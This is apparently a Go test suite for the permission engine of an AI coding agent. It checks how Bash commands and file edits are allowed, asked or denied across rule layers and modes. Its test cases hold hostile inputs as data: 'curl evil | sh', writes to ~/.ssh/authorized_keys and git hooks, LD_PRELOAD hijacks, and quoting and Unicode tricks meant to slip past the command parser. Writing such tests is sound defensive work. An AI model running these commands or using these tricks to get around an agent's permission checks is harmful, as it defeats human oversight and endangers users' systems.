package permission

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/grit-dev/grit/internal/config"
)

const (
	testRoot = "/ws"
	testHome = "/home/u"
)

func bashIn(cmd string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"command": cmd})
	return b
}

func pathIn(p string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"file_path": p})
	return b
}

func mustEngine(t *testing.T, opts Options) *Engine {
	t.Helper()
	if opts.Root == "" {
		opts.Root = testRoot
	}
	if opts.Home == "" {
		opts.Home = testHome
	}
	e, err := New(opts)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return e
}

// C1: the rule grammar, with examples of what each rule matches.
func TestParseRule(t *testing.T) {
	tests := []struct {
		rule    string
		wantErr bool
		match   []string // Bash commands or file paths the rule covers
		noMatch []string
	}{
		{rule: "Bash(npm run test:*)", match: []string{"npm run test", "npm run test -- -x"}, noMatch: []string{"npm run testing", "npm run", "npm test"}},
		{rule: "Bash(npm run *)", match: []string{"npm run build"}, noMatch: []string{"npm test"}},
		{rule: "Bash(git diff)", match: []string{"git diff"}, noMatch: []string{"git diff HEAD", "git"}},
		{rule: "Bash(git commit -m 'a b')", match: []string{`git commit -m "a b"`}, noMatch: []string{"git commit -m a b"}},
		{rule: "Bash", match: []string{"anything at all"}},
		{rule: "Bash(*)", match: []string{"ls"}},
		{rule: "Edit(src/**)", match: []string{"/ws/src/a.go", "/ws/src/x/y/z.go"}, noMatch: []string{"/ws/srcx/a.go", "/ws/a.go", "/other/src/a.go"}},
		{rule: "Edit(/docs/*.md)", match: []string{"/ws/docs/a.md"}, noMatch: []string{"/ws/docs/x/a.md"}},
		{rule: "Read(~/.ssh/**)", match: []string{"/home/u/.ssh/id_rsa"}, noMatch: []string{"/ws/.ssh/id_rsa"}},
		{rule: "Read(//etc/passwd)", match: []string{"/etc/passwd"}},
		{rule: "Edit(*.lock)", match: []string{"/ws/package.lock", "/ws/a/b/c.lock"}, noMatch: []string{"/ws/lock"}},
		{rule: "Edit(build/)", match: []string{"/ws/build/x"}},
		{rule: "WebFetch(domain:go.dev)"},
		{rule: "WebFetch(domain:*.example.com)"},
		{rule: "mcp__github__create_issue"},
		{rule: "Write"},
		{rule: "Bash(npm run", wantErr: true},
		{rule: "Bash(git * main)", wantErr: true},
		{rule: "Bash(ls && rm x)", wantErr: true},
		{rule: "Bash(ls > out)", wantErr: true},
		{rule: "Bash(X=1 ls)", wantErr: true},
		{rule: "Bash($X)", wantErr: true},
		{rule: "Edit(src/[)", wantErr: true},
		{rule: "Edit(src/a**b)", wantErr: true},
		{rule: "WebFetch(go.dev)", wantErr: true},
		{rule: "Skill(x)", wantErr: true},
		{rule: "not a rule", wantErr: true},
		{rule: "", wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			r, err := ParseRule(tt.rule, testRoot, testHome)
			if (err != nil) != tt.wantErr {
				t.Fatalf("ParseRule(%q) error = %v, want error %v", tt.rule, err, tt.wantErr)
			}
			if err != nil {
				if !strings.Contains(err.Error(), tt.rule) {
					t.Errorf("ParseRule(%q) error %q does not name the rule", tt.rule, err)
				}
				return
			}
			check := func(s string) bool {
				if r.Tool == "Bash" {
					sc := analyzeScript(s)
					c := sc.commands[0]
					return r.matchArgv(c.argv, c.known, c.exactOnly)
				}
				return r.Any || matchPath(r.Pattern, s)
			}
			for _, s := range tt.match {
				if !check(s) {
					t.Errorf("rule %q does not match %q, want match", tt.rule, s)
				}
			}
			for _, s := range tt.noMatch {
				if check(s) {
					t.Errorf("rule %q matches %q, want no match", tt.rule, s)
				}
			}
		})
	}
}

func TestNewRejectsBadRuleNamingLayer(t *testing.T) {
	_, err := New(Options{Root: testRoot, Home: testHome, User: config.Permissions{Allow: []string{"Bash(ok)", "Bash(git * x)"}}})
	if err == nil || !strings.Contains(err.Error(), "Bash(git * x)") || !strings.Contains(err.Error(), "user") {
		t.Fatalf("New with a bad rule = %v, want an error naming the rule and its layer", err)
	}
	_, err = New(Options{Root: testRoot, Home: testHome, Mode: "yolo"})
	if err == nil || !strings.Contains(err.Error(), "bypassPermissions") {
		t.Fatalf("New with mode yolo = %v, want an error listing the modes", err)
	}
}

// C2, C3, C4, C5, C6: compound commands, wrappers, dynamic words, redirects,
// parser differentials, decided in default mode against one rule set.
func TestCheckBash(t *testing.T) {
	e := mustEngine(t, Options{User: config.Permissions{
		Allow: []string{"Bash(ls:*)", "Bash(cat:*)", "Bash(rm:*)", "Bash(go test:*)", "Bash(timeout:*)", "Bash(env:*)", "Bash(xargs:*)", "Bash(sh:*)", "Bash(python3:*)", "Bash(find:*)", "Bash(git:*)", "Bash(tee:*)", "Bash(sed:*)", "Bash(awk:*)", "Bash(make:*)", "Bash(sudo:*)", "Bash(nice:*)", "Edit(out/**)"},
		Deny:  []string{"Bash(git push:*)", "Bash(curl:*)", "Bash(rm -rf /)"},
	}})
	tests := []struct {
		name, cmd, want string
	}{
		// C2: every command of a compound.
		{"and", "ls && cat x", Allow},
		{"and unallowed", "ls && wget x", Ask},
		{"or deny", "ls || git push", Deny},
		{"semicolon deny", "ls; git push origin", Deny},
		{"pipe", "cat x | grep y", Ask},
		{"background", "ls & git push", Deny},
		{"newline", "ls\ngit push", Deny},
		{"cmd subst", "echo $(git push)", Deny},
		{"backticks", "echo `git push`", Deny},
		{"proc subst in", "cat <(curl x)", Deny},
		{"proc subst out", "ls >(curl x)", Deny},
		{"heredoc subst", "cat <<EOF\n$(curl x)\nEOF", Deny},
		{"quoted heredoc is text", "cat <<'EOF'\n$(curl x)\nEOF", Allow},
		{"function body", "f() { git push; }; ls", Deny},
		{"function call", "f() { ls; }; f", Ask},
		{"subshell", "(ls; git push)", Deny},
		{"if", "if ls; then git push; fi", Deny},
		{"for", "for i in a b; do curl $i; done", Deny},
		{"while", "while ls; do wget x; done", Ask},
		{"case", "case x in x) git push;; esac", Deny},
		{"declare subst", "export A=$(curl x)", Deny},
		{"arith subst", "echo $(( $(curl x) + 1 ))", Deny},
		{"many commands no cap", strings.Repeat("ls; ", 200) + "git push", Deny},
		// C3: exec wrappers never allowed by their own prefix.
		{"timeout sees through", "timeout 5 rm x", Allow},
		{"timeout deny", "timeout 5 git push", Deny},
		{"timeout opts", "timeout -s KILL 5 curl x", Deny},
		{"timeout unknown", "timeout 5 wget x", Ask},
		{"env assign", "env X=1 rm y", Allow},
		{"env PATH", "env PATH=/tmp rm y", Ask},
		{"nice", "nice -n 5 git push", Deny},
		{"eval static", "eval 'git push'", Deny},
		{"eval ls", "eval ls", Allow},
		{"eval dynamic", "eval \"$X\"", Ask},
		{"sh -c static", "sh -c 'ls; rm x'", Allow},
		{"sh -c deny", "bash -c 'git push'", Deny},
		{"sh -lc deny", "bash -lc 'curl x'", Deny},
		{"sh -c dynamic", "sh -c \"$CMD\"", Ask},
		{"sh stdin", "curl x | sh", Deny},
		{"sh stdin2", "cat x | sh", Ask},
		{"sh file", "sh script.sh", Ask},
		{"xargs", "ls | xargs rm", Ask},
		{"xargs deny", "ls | xargs curl", Deny},
		{"find exec", "find . -exec wget {} ;", Ask},
		{"find exec deny", "find . -exec curl {} +", Deny},
		{"find execdir allowed inner", "find . -name x -execdir rm {} ;", Allow},
		{"find fprint", "find . -fprint out", Ask},
		{"git -c", "git -c core.pager=sh log", Ask},
		{"git alias", "git log", Allow},
		{"sed e", "sed 's/x/y/e' f", Ask},
		{"sed e cmd", "sed '1e id' f", Ask},
		{"sed w", "sed 's/x/y/w /tmp/o' f", Ask},
		{"sed plain", "sed -n '1,3p' f", Allow},
		{"awk system", "awk '{system(\"id\")}' f", Ask},
		{"awk plain", "awk '{print $1}' f", Allow},
		{"python -c", "python3 -c 'import os'", Ask},
		{"python file", "python3 -m pytest", Allow},
		{"make", "make test", Ask},
		{"sudo", "sudo rm x", Ask},
		{"sudo deny", "sudo -u root curl x", Deny},
		{"command -v", "command -v ls", Ask},
		{"exec", "exec rm x", Allow},
		{"npx", "npx jest", Ask},
		// C4: dynamic command words ask, deny uses the resolved name.
		{"var cmd", "$X foo", Ask},
		{"quote trick", "r''m x", Ask},
		{"quote trick deny", "c''url x", Deny},
		{"backslash", "\\rm x", Ask},
		{"ansi c", "$'\\x72m' x", Ask},
		{"default exp", "${X:-rm} x", Ask},
		{"glob cmd", "/b?n/rm x", Ask},
		{"abs deny", "/usr/bin/curl x", Deny},
		{"computed args may deny", "git $SUB origin", Ask},
		{"computed args fine", "cat $X", Allow},
		{"computed args near deny", "rm $X", Ask},
		{"dangerous assign", "PATH=/tmp:$PATH; ls", Ask},
		{"dangerous prefix", "LD_PRELOAD=/x.so ls", Ask},
		{"harmless prefix", "CGO_ENABLED=0 go test ./...", Allow},
		// C5: redirects are edits.
		{"redirect bashrc", "echo x > ~/.bashrc", Ask},
		{"redirect git hook", "echo x >> .git/hooks/pre-commit", Ask},
		{"redirect allowed path", "echo x > out/a.txt", Allow},
		{"redirect unallowed", "echo x > a.txt", Ask},
		{"redirect dev null", "ls > /dev/null 2>&1", Allow},
		{"redirect fd", "ls 2>&1 >&2", Allow},
		{"redirect dynamic", "ls > $F", Ask},
		{"redirect after cd", "cd out && echo x > a", Ask},
		{"tee bashrc", "echo x | tee ~/.bashrc", Ask},
		{"tee allowed", "ls | tee out/log", Allow},
		{"rm git", "rm -rf .git", Ask},
		{"cat env", "cat .env.local", Ask},
		{"glob git", "rm -rf .gi?", Ask},
		{"brace git", "rm -rf {a,.git}", Ask},
		{"star no dot", "rm *.o", Allow},
		{"fullwidth git", "cat .ＧＩＴ/config", Ask},
		{"trailing dot", "cat .git./config", Ask},
		// C6: parser differentials.
		{"cr", "ls\rgit push", Ask},
		{"nul", "ls\x00", Ask},
		{"fullwidth rm", "ｒｍ x", Ask},
		{"double dash", "rm -- -rf", Allow},
		{"unterminated", "ls 'x", Ask},
		{"very long", "ls " + strings.Repeat("a", 100000), Allow},
		{"empty", "   ", Deny},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := e.Check(context.Background(), "Bash", bashIn(tt.cmd))
			if d.Behavior != tt.want {
				t.Errorf("Check(Bash %q) = %s (%s), want %s", trunc(tt.cmd), d.Behavior, d.Reason, tt.want)
			}
			if d.Reason == "" {
				t.Errorf("Check(Bash %q) has no reason", trunc(tt.cmd))
			}
		})
	}
}

func trunc(s string) string {
	if len(s) > 80 {
		return s[:80] + "..."
	}
	return s
}

// C8 and A7: the product of modes, tools and rules.
func TestModes(t *testing.T) {
	rules := config.Permissions{
		Allow: []string{"Bash(go test:*)", "Edit(src/**)"},
		Ask:   []string{"Bash(go generate:*)"},
		Deny:  []string{"Bash(rm:*)", "Edit(secret/**)", "Read(~/.aws/**)"},
	}
	type call struct {
		tool  string
		input json.RawMessage
	}
	calls := map[string]call{
		"read in ws":         {"Read", pathIn("a.go")},
		"read outside":       {"Read", pathIn("/etc/hosts")},
		"read denied":        {"Read", pathIn("~/.aws/credentials")},
		"read env":           {"Read", pathIn(".env")},
		"grep":               {"Grep", json.RawMessage(`{"pattern":"x"}`)},
		"edit allowed":       {"Edit", pathIn("src/a.go")},
		"edit plain":         {"Write", pathIn("a.go")},
		"edit outside":       {"Edit", pathIn("/tmp/a.go")},
		"edit denied":        {"Edit", pathIn("secret/k")},
		"edit .git":          {"Edit", pathIn(".git/config")},
		"edit .GIT":          {"Edit", pathIn(".GIT/config")},
		"edit .git missing":  {"Write", pathIn(".git/hooks/pre-commit")},
		"edit .grit":         {"Write", pathIn(".grit/settings.json")},
		"edit .env":          {"Edit", pathIn(".env.production")},
		"edit bashrc":        {"Edit", pathIn("~/.bashrc")},
		"edit zshrc in ws":   {"Edit", pathIn("sub/.zshrc")},
		"edit vscode":        {"Write", pathIn(".vscode/tasks.json")},
		"edit gitmodules":    {"Edit", pathIn(".gitmodules")},
		"edit mcp":           {"Write", pathIn(".mcp.json")},
		"edit ssh":           {"Write", pathIn("~/.ssh/authorized_keys")},
		"edit trailing dots": {"Edit", pathIn(".git. /config")},
		"edit zero width":    {"Edit", pathIn(".gi\u200bt/config")},
		"edit fullwidth":     {"Edit", pathIn("\uff0egit/config")},
		"edit in src .git":   {"Edit", pathIn("src/.git/config")},
		"bash allowed":       {"Bash", bashIn("go test ./...")},
		"bash plain":         {"Bash", bashIn("npm install")},
		"bash ask rule":      {"Bash", bashIn("go generate ./...")},
		"bash denied":        {"Bash", bashIn("rm -rf x")},
		"bash protected":     {"Bash", bashIn("go test ./... > .git/x")},
		"webfetch":           {"WebFetch", json.RawMessage(`{"url":"https://go.dev/x"}`)},
		"skill":              {"Skill", json.RawMessage(`{"name":"x"}`)},
	}
	want := map[string]map[string]string{
		//                     default acceptEdits plan bypass
		"read in ws":         row(Allow, Allow, Allow, Allow),
		"read outside":       row(Ask, Ask, Ask, Allow),
		"read denied":        row(Deny, Deny, Deny, Deny),
		"read env":           row(Ask, Ask, Ask, Ask),
		"grep":               row(Allow, Allow, Allow, Allow),
		"edit allowed":       row(Allow, Allow, Deny, Allow),
		"edit plain":         row(Ask, Allow, Deny, Allow),
		"edit outside":       row(Ask, Ask, Deny, Allow),
		"edit denied":        row(Deny, Deny, Deny, Deny),
		"edit .git":          row(Ask, Ask, Deny, Ask),
		"edit .GIT":          row(Ask, Ask, Deny, Ask),
		"edit .git missing":  row(Ask, Ask, Deny, Ask),
		"edit .grit":         row(Ask, Ask, Deny, Ask),
		"edit .env":          row(Ask, Ask, Deny, Ask),
		"edit bashrc":        row(Ask, Ask, Deny, Ask),
		"edit zshrc in ws":   row(Ask, Ask, Deny, Ask),
		"edit vscode":        row(Ask, Ask, Deny, Ask),
		"edit gitmodules":    row(Ask, Ask, Deny, Ask),
		"edit mcp":           row(Ask, Ask, Deny, Ask),
		"edit ssh":           row(Ask, Ask, Deny, Ask),
		"edit trailing dots": row(Ask, Ask, Deny, Ask),
		"edit zero width":    row(Ask, Ask, Deny, Ask),
		"edit fullwidth":     row(Ask, Ask, Deny, Ask),
		"edit in src .git":   row(Ask, Ask, Deny, Ask),
		"bash allowed":       row(Allow, Allow, Deny, Allow),
		"bash plain":         row(Ask, Ask, Deny, Allow),
		"bash ask rule":      row(Ask, Ask, Deny, Ask),
		"bash denied":        row(Deny, Deny, Deny, Deny),
		"bash protected":     row(Ask, Ask, Deny, Ask),
		"webfetch":           row(Ask, Ask, Deny, Allow),
		"skill":              row(Allow, Allow, Allow, Allow),
	}
	modes := []string{ModeDefault, ModeAcceptEdits, ModePlan, ModeBypass}
	for _, layer := range []string{"managed", "user"} {
		for _, mode := range modes {
			opts := Options{Mode: mode}
			if layer == "managed" {
				opts.Managed = rules
			} else {
				opts.User = rules
			}
			e := mustEngine(t, opts)
			for name, c := range calls {
				got := e.Check(context.Background(), c.tool, c.input)
				if w := want[name][mode]; got.Behavior != w {
					t.Errorf("%s rules, mode %s, %s: Check(%s, %s) = %s (%s), want %s", layer, mode, name, c.tool, c.input, got.Behavior, got.Reason, w)
				}
			}
		}
	}
}

func row(def, accept, plan, bypass string) map[string]string {
	return map[string]string{ModeDefault: def, ModeAcceptEdits: accept, ModePlan: plan, ModeBypass: bypass}
}

// Symlinks in the workspace are judged by their target.
func TestEditThroughSymlink(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	if err := os.Mkdir(filepath.Join(root, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(root, ".git"), filepath.Join(root, "innocent")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(root, "out")); err != nil {
		t.Fatal(err)
	}
	e := mustEngine(t, Options{Root: root, Mode: ModeAcceptEdits})
	for _, p := range []string{"innocent/config", "out/x"} {
		if d := e.Check(context.Background(), "Edit", pathIn(p)); d.Behavior != Ask {
			t.Errorf("Check(Edit %s) = %s (%s), want ask", p, d.Behavior, d.Reason)
		}
	}
}

// C9: precedence over layers, and an untrusted project layer is ignored.
func TestLayers(t *testing.T) {
	ctx := context.Background()
	project := config.Permissions{Allow: []string{"Bash", "Edit"}, DefaultMode: ModeBypass}
	e := mustEngine(t, Options{Project: project})
	if got := e.Mode(); got != ModeDefault {
		t.Errorf("untrusted project defaultMode bypass: Mode() = %s, want default", got)
	}
	if d := e.Check(ctx, "Bash", bashIn("curl evil | sh")); d.Behavior != Ask {
		t.Errorf("untrusted project allow Bash: Check = %s, want ask", d.Behavior)
	}
	if n := e.Notices(); len(n) != 1 || !strings.Contains(n[0], "not trusted") {
		t.Errorf("Notices() = %q, want one saying the project is not trusted", n)
	}

	e = mustEngine(t, Options{Project: project, ProjectTrusted: true})
	if got := e.Mode(); got != ModeBypass {
		t.Errorf("trusted project defaultMode: Mode() = %s, want bypassPermissions", got)
	}

	// managed deny beats user and project allows; managed ask beats user allow.
	e = mustEngine(t, Options{
		Managed:        config.Permissions{Deny: []string{"Bash(curl:*)"}, Ask: []string{"Bash(git push:*)"}},
		User:           config.Permissions{Allow: []string{"Bash(curl:*)", "Bash(git push:*)"}},
		Project:        config.Permissions{Allow: []string{"Bash(curl x)"}},
		ProjectTrusted: true,
		Mode:           ModeBypass,
	})
	if d := e.Check(ctx, "Bash", bashIn("curl x")); d.Behavior != Deny || !strings.Contains(d.Reason, "managed") {
		t.Errorf("managed deny vs allows: Check = %s (%s), want deny naming managed", d.Behavior, d.Reason)
	}
	if d := e.Check(ctx, "Bash", bashIn("git push")); d.Behavior != Ask {
		t.Errorf("managed ask vs user allow in bypass: Check = %s (%s), want ask", d.Behavior, d.Reason)
	}
	// A user deny beats a trusted project's allow.
	e = mustEngine(t, Options{User: config.Permissions{Deny: []string{"Edit(src/**)"}}, Project: config.Permissions{Allow: []string{"Edit(src/**)"}}, ProjectTrusted: true})
	if d := e.Check(ctx, "Edit", pathIn("src/a.go")); d.Behavior != Deny {
		t.Errorf("user deny vs project allow: Check = %s, want deny", d.Behavior)
	}
}

// C7: session grants are exact or explicit prefixes, and plan drops them.
func TestSessionGrants(t *testing.T) {
	ctx := context.Background()
	e := mustEngine(t, Options{User: config.Permissions{Deny: []string{"Bash(rm -rf /)"}}})
	if err := e.GrantSession("Bash"); err == nil {
		t.Error("GrantSession(Bash) succeeded, want an error: never the whole tool")
	}
	if err := e.GrantSession("Edit"); err == nil {
		t.Error("GrantSession(Edit) succeeded, want an error")
	}
	grants := e.GrantsFor("Bash", bashIn("go test ./... && go vet ./..."))
	want := []string{"Bash(go test ./...)", "Bash(go vet ./...)"}
	if strings.Join(grants, "|") != strings.Join(want, "|") {
		t.Fatalf("GrantsFor = %q, want %q", grants, want)
	}
	for _, g := range grants {
		if err := e.GrantSession(g); err != nil {
			t.Fatal(err)
		}
	}
	if d := e.Check(ctx, "Bash", bashIn("go test ./... && go vet ./...")); d.Behavior != Allow {
		t.Errorf("after grants: Check = %s (%s), want allow", d.Behavior, d.Reason)
	}
	if d := e.Check(ctx, "Bash", bashIn("go test -run X ./...")); d.Behavior != Ask {
		t.Errorf("exact grant covers another argv: Check = %s, want ask", d.Behavior)
	}
	if err := e.GrantSession("Bash(go test:*)"); err != nil {
		t.Fatal(err)
	}
	if d := e.Check(ctx, "Bash", bashIn("go test -run X ./...")); d.Behavior != Allow {
		t.Errorf("prefix grant: Check = %s, want allow", d.Behavior)
	}
	if d := e.Check(ctx, "Bash", bashIn("go build")); d.Behavior != Ask {
		t.Errorf("grant leaks to another command: Check = %s, want ask", d.Behavior)
	}
	if err := e.SetMode(ModePlan); err != nil {
		t.Fatal(err)
	}
	if err := e.SetMode(ModeDefault); err != nil {
		t.Fatal(err)
	}
	if d := e.Check(ctx, "Bash", bashIn("go test ./...")); d.Behavior != Ask {
		t.Errorf("grant survived plan mode: Check = %s, want ask", d.Behavior)
	}
	if err := e.SetMode("yolo"); err == nil {
		t.Error("SetMode(yolo) succeeded, want error")
	}
}

func TestNormalizeComponent(t *testing.T) {
	tests := []struct{ in, want string }{
		{".GIT", ".git"},
		{".git.", ".git"},
		{".git . ", ".git"},
		{"\uff0e\uff47\uff49\uff54", ".git"},
		{".g\u200bit", ".git"},
		{".gi\u0307t", ".git"},
		{"..", ".."},
		{".", "."},
	}
	for _, tt := range tests {
		if got := normalizeComponent(tt.in); got != tt.want {
			t.Errorf("normalizeComponent(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzDecide: Check never panics, and an allowed command re-parses to the
// same tree after printing (what runs is what was checked).
func FuzzDecide(f *testing.F) {
	for _, s := range []string{
		"ls", "ls && rm x", "echo $(git push)", "timeout 5 rm x", "bash -c 'ls; rm x'", "eval ls",
		"r''m x", "$'\\x72m'", "ls > .git/x", "cat <<EOF\nx\nEOF", "f() { ls; }; f", "find . -exec rm {} ;",
		"ls\r", "ｒｍ -rf", "x=1; ls", "ls | xargs rm", "git -c a=b log", "sed 's/a/b/e'", "{ ls; } 2>&1",
		"for i in 1; do ls; done", "ls >(rm x)", "a[$(rm x)]=1", "echo ${x:-$(rm y)}", "ls $((1+$(rm z)))",
	} {
		f.Add(s)
	}
	e, err := New(Options{Root: testRoot, Home: testHome, User: config.Permissions{
		Allow: []string{"Bash(ls:*)", "Bash(rm:*)", "Bash(echo:*)", "Bash(timeout:*)", "Bash(find:*)"},
		Deny:  []string{"Bash(git push:*)"},
	}})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, src string) {
		// checkBash, not Check: JSON would replace invalid UTF-8.
		d := e.checkBash(src, ModeDefault)
		if d.Behavior != Allow {
			return
		}
		f1, err := parse(src)
		if err != nil {
			t.Fatalf("Check(%q) = allow, but it does not parse: %v", src, err)
		}
		p1 := printNode(f1)
		f2, err := parse(p1)
		if err != nil || printNode(f2) != p1 {
			t.Fatalf("Check(%q) = allow, but its printed form does not round-trip", src)
		}
	})
}

// Plan mode runs read-only commands, as Claude Code does, and nothing else.
func TestPlanModeBash(t *testing.T) {
	e, err := New(Options{Mode: ModePlan, Root: t.TempDir(), Home: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		cmd  string
		want string
	}{
		{"ls -la", Allow},
		{"git log --oneline -5", Allow},
		{"git -C sub status", Allow},
		{"git branch -a", Allow},
		{"rg -n foo src", Allow},
		{"cat a.txt | wc -l", Allow},
		{"find . -name '*.go'", Allow},
		{"find . -name x -delete", Deny},
		{"find . -exec rm {} \\;", Deny},
		{"git branch newname", Deny},
		{"git commit -m x", Deny},
		{"sort -o out.txt in.txt", Deny},
		{"ls > listing.txt", Deny},
		{"touch x", Deny},
		{"rm -rf build", Deny},
		{"sh -c 'ls'", Allow}, // the analyzer sees the ls it runs
		{"sh -c 'rm x'", Deny},
		{"$CMD", Deny},
	} {
		if got := e.Check(context.Background(), "Bash", bashInput(tt.cmd)); got.Behavior != tt.want {
			t.Errorf("plan mode Check(Bash %q) = %+v, want %s", tt.cmd, got, tt.want)
		}
	}
	if got := e.Check(context.Background(), ExitPlanMode, json.RawMessage(`{"plan":"x"}`)); got.Behavior != Ask {
		t.Errorf("ExitPlanMode in plan mode = %+v, want ask", got)
	}
}

func bashInput(cmd string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"command": cmd})
	return b
}
